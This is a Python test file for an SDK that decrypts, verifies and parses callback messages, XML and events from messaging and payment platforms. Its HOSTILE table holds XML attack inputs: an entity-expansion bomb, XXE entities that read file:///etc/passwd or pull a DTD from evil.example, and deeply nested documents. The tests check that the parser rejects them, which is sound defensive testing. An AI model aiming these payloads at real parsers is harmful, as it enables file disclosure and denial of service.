"""What platforms post to us: envelopes, XML and events, of which any byte may be hostile."""

from __future__ import annotations

import base64
from contextlib import suppress
from typing import Any, ClassVar

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from siyu_sdk import parse_event
from siyu_sdk.core.crypto import CallbackCodec, gcm_decrypt, gcm_encrypt, load_certificate, load_private_key, load_public_key
from siyu_sdk.core.errors import DecodeError, DecryptError, InputError, SignatureError
from siyu_sdk.core.events import Event, UnknownEvent, load_text, read_event
from siyu_sdk.core.xml import parse_xml, to_xml

KEY = base64.b64encode(bytes(range(32))).decode().rstrip("=")
CODEC = CallbackCodec("token", KEY, ["ww1"])
TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]), max_size=40)

# The envelope


@given(st.binary(max_size=200))
def test_a_message_survives_its_envelope(message: bytes) -> None:
    assert CODEC.decrypt(CODEC.encrypt(message, "ww1")) == message


@given(st.data())
def test_a_changed_envelope_is_refused_or_never_gives_another_receivers_message(data: st.DataObject) -> None:
    sealed = bytearray(base64.b64decode(CODEC.encrypt("<xml>榴莲</xml>".encode(), "ww1", b"0123456789abcdef")))
    at = data.draw(st.integers(0, len(sealed) - 1))
    sealed[at] ^= data.draw(st.integers(1, 255))
    changed = base64.b64encode(sealed).decode()
    with pytest.raises(SignatureError):
        CODEC.verify(CODEC.sign("1", "n", CODEC.encrypt(b"", "ww1")), "1", "n", changed)
    with suppress(DecryptError):
        CODEC.decrypt(changed)


@given(st.text(max_size=120) | st.binary(max_size=120).map(lambda raw: base64.b64encode(raw).decode()))
def test_garbage_cannot_be_decrypted_and_breaks_nothing(encrypted: str) -> None:
    with pytest.raises(DecryptError):
        CODEC.decrypt(encrypted)


@given(TEXT, TEXT, TEXT)
def test_a_signature_fits_its_parts_alone(timestamp: str, nonce: str, encrypted: str) -> None:
    CODEC.verify(CODEC.sign(timestamp, nonce, encrypted), timestamp, nonce, encrypted)
    for wrong in ("", "榴莲", CODEC.sign(timestamp, nonce, encrypted + "x")):
        with pytest.raises(SignatureError):
            CODEC.verify(wrong, timestamp, nonce, encrypted)


def test_a_message_for_somebody_else_is_refused() -> None:
    with pytest.raises(DecryptError, match="meant for 'ww2'"):
        CODEC.decrypt(CODEC.encrypt(b"hi", "ww2"))


@pytest.mark.parametrize("key", ["", "short", "!" * 43, "é" * 43, "榴" * 43, "a" * 44])
def test_a_wrong_key_is_refused_when_it_is_given(key: str) -> None:
    with pytest.raises(InputError) as caught:
        CallbackCodec("token", key, ["ww1"])
    assert caught.value.field == "encoding_aes_key"


def test_the_codec_shows_neither_token_nor_key() -> None:
    shown = repr(CODEC)
    assert "token" not in shown
    assert KEY not in shown


@given(st.binary(min_size=1, max_size=80), st.binary(min_size=12, max_size=12), st.binary(max_size=20))
def test_gcm_round_trip_and_one_changed_bit(plain: bytes, nonce: bytes, associated: bytes) -> None:
    key = b"k" * 32
    sealed = gcm_encrypt(key, nonce, plain, associated)
    assert gcm_decrypt(key, nonce, sealed, associated) == plain
    broken = bytearray(base64.b64decode(sealed))
    broken[0] ^= 1
    for wrong in (base64.b64encode(broken).decode(), "", "no base64!", "榴莲"):
        with pytest.raises(DecryptError):
            gcm_decrypt(key, nonce, wrong, associated)
    with pytest.raises(DecryptError):
        gcm_decrypt(b"x" * 32, nonce, sealed, associated)


@pytest.mark.parametrize("load", [load_private_key, load_public_key, load_certificate])
@pytest.mark.parametrize("pem", ["", "hello", b"\xff\x00", "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"], ids=repr)
def test_keys_that_are_none_are_refused_without_being_shown(load: Any, pem: Any) -> None:
    with pytest.raises(InputError) as caught:
        load(pem)
    assert "AAAA" not in str(caught.value)


# XML


def test_xml_becomes_plain_dictionaries() -> None:
    text = "<xml><A>1</A><B><![CDATA[榴莲 <3]]></B><C><D>x</D><D>y</D><D>z</D></C><E/></xml>"
    assert parse_xml(text) == parse_xml(text.encode()) == {"A": "1", "B": "榴莲 <3", "C": {"D": ["x", "y", "z"]}, "E": ""}
    assert parse_xml("<xml>alone</xml>") == {}


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><x>&b;</x>'
HOSTILE = {
    "entities": BOMB,
    "a document type": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    "a local file": '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
    "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><x/>',
    "deep nesting": "<a>" * 5000 + "</a>" * 5000,
    "very deep nesting": "<a>" * 200_000 + "</a>" * 200_000,
    "nothing": "",
    "no XML": "hello",
    "two roots": "<a/><b/>",
    "cut off": "<xml><A>1</A>",
    "an undefined entity": "<x>&nope;</x>",
    "a null byte": "<x>\0</x>",
    "half a surrogate": "<x>\ud800</x>",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_xml_is_a_decode_error(name: str) -> None:
    with pytest.raises(DecodeError) as caught:
        parse_xml(HOSTILE[name])
    assert len(str(caught.value)) < 800
    with pytest.raises(DecodeError):
        load_text(HOSTILE[name])


@given(st.text(max_size=80) | st.binary(max_size=80) | st.text("<>/&;![]ax\"'= ", max_size=60))
@example("{" * 100_000)
@example("[" * 100_000)
@example('{"a":' * 100_000)
@example('{"a": 1e999999}')
@example('{"a": ' + "9" * 5000 + "}")
@example("\ufeff{}")
@example("{\ud800}")
def test_any_text_is_read_or_a_decode_error(text: str | bytes) -> None:
    for read in (parse_xml, load_text):
        with suppress(DecodeError):
            assert isinstance(read(text), dict)


@given(st.dictionaries(st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,8}", fullmatch=True), TEXT | st.integers(), max_size=5))
def test_xml_that_we_write_reads_back(fields: dict[str, Any]) -> None:
    assert parse_xml(to_xml(fields)) == {name: str(value).replace("\r", "\n") for name, value in fields.items()}


# Events


class LabEvent(Event):
    platform: ClassVar[str] = "lab"


class Grown(LabEvent, event="grown", change_type=("up", "down")):
    height: int


class AnyGrown(LabEvent, event="grown"):
    pass


PLAIN = st.none() | st.booleans() | st.integers() | TEXT
JSON_VALUES = st.recursive(PLAIN, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3), max_leaves=6)


def test_the_most_exact_type_wins_and_none_is_ever_missing() -> None:
    assert isinstance(read_event("lab", "grown", "up", {"height": "3"}), Grown)
    assert type(read_event("lab", "grown", "sideways", {})) is AnyGrown
    assert type(read_event("lab", "shrunk", "", {})) is UnknownEvent
    assert type(read_event("wecom", "grown", "up", {"height": 3})) is UnknownEvent


def test_a_known_event_whose_shape_drifted_is_kept_whole() -> None:
    fields = {"height": "very tall", "x": 1}
    event = read_event("lab", "grown", "up", fields)
    assert isinstance(event, UnknownEvent)
    assert event.payload == event.to_wire() == fields


@given(st.dictionaries(TEXT, JSON_VALUES, max_size=5))
@example({"payload": 1, "platform": "x", "model_config": {}, "model_extra": 2, "__class__": 3, "": 4, "usable_until": 5})
def test_an_unknown_event_keeps_everything(fields: dict[str, Any]) -> None:
    event = read_event("lab", "?", "", fields)
    assert isinstance(event, UnknownEvent)
    assert event.payload == fields
    assert event.to_wire() == fields


@given(st.sampled_from(["wecom", "miniprogram", "store", "pay"]), st.sampled_from(["Event", "InfoType", "MsgType"]), TEXT, TEXT)
def test_events_of_any_name_parse(platform: str, kind: str, name: str, change: str) -> None:
    event = parse_event(platform, to_xml({kind: name, "ChangeType": change, "Fruit": "榴莲"}))
    assert event.to_wire()["Fruit"] == "榴莲"
